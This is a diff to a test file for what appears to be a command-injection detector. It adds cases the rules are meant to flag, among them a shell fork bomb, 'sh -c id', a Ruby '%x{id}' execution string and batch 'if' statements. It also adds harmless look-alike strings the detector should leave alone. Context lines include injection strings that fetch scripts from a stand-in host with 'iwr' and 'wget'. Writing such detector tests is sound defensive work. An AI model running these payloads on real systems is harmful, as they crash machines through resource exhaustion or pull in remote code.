@@ -44,6 +44,8 @@ FIRES = {
         (header, "User-Agent: bash -c id"),
     ],
     "rce.batch-statement": [
+        (query, "if /i not k==k ver"),
+        (query, "if 3 lss 9 echo less"),
         (query, "for /f %i in ('ver') do echo %i"),
         (query, 'if "%1"=="" goto end'),
     ],
@@ -51,9 +53,11 @@ FIRES = {
         (query, ";iwr http://x.example/a.ps1"),
     ],
     "rce.alias": [
+        (query, "alias -p ..='id'"),
         (query, "alias ll=id"),
     ],
     "rce.fork-bomb": [
+        (query, "go(){ go | go & }; go"),
         (query, "b(){ b|b& };b"),
     ],
     "rce.brace-words": [
@@ -66,6 +70,8 @@ FIRES = {
         (query, ";$z cat $z x"),
     ],
     "rce.quoted-command": [
+        (query, "sh -c id"),
+        (query, "%x{id}"),
         (query, ";'wget' http://x.example/a"),
         (query, "cd /;ls"),
     ],
@@ -90,6 +96,9 @@ ATTACKS = [
 ]
 
 SILENT = [
+    (query, "if a == b then stop"),
+    (query, "alias: an assumed name"),
+    (query, "50%x (about)"),
     (query, "cats & dogs; more to come"),
     (query, "name|date|time|type|id"),
     (query, "R&D | Sales"),
@@ -113,7 +122,7 @@ SILENT = [
 
 
 def test_every_rule_fires_on_its_cases() -> None:
-    assert sum(len(cases) for cases in FIRES.values()) == 55
+    assert sum(len(cases) for cases in FIRES.values()) == 61
     check_fires(DETECTOR, FIRES)
 
 
